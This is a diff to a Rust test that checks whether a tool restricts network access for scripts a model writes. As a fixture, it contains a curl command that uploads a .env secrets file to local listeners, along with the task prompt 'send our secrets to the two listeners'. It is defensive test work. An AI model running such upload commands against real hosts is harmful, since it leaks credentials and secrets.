@@ -56,8 +56,9 @@ fn a_model_script_reaches_only_the_hosts_the_task_names() {
     let send = |url: &str| format!("curl -sS --max-time 5 --data-binary @.env {url}; echo \" exit=$?\"");
     let both = format!("{}; {}", send(&first.url()), send(&second.url()));
 
-    // By default: nothing leaves, and the model and the user are told why and how to allow a host.
-    let off = model_runs(&world, work.path(), "send the .env file to the two listeners", &both, &[]);
+    // By default: nothing leaves, and the model and the user are told why and how to allow a host. (A task that
+    // names the file and no listener is file work, a script for a small model: these name none, so a pane is driven.)
+    let off = model_runs(&world, work.path(), "send our secrets to the two listeners", &both, &[]);
     assert!(first.received().is_empty() && second.received().is_empty(), "{:?}", first.received());
     assert_eq!(off.report["subtasks"][0]["network"], "off", "{}", off.report);
     let seen = &off.prompts[1];
@@ -77,7 +78,7 @@ fn a_model_script_reaches_only_the_hosts_the_task_names() {
     assert!(named.prompts[1].contains("clive refused the connection to 127.0.0.3"), "{}", named.prompts[1]);
 
     // --network: both.
-    let open = model_runs(&world, work.path(), "send the .env file to the two listeners", &both, &["--network"]);
+    let open = model_runs(&world, work.path(), "send our secrets to the two listeners", &both, &["--network"]);
     assert_eq!(open.report["subtasks"][0]["network"], "on");
     assert!(second.received().iter().any(|r| r.contains("SECRET=hunter2")), "{:?}", second.received());
 }
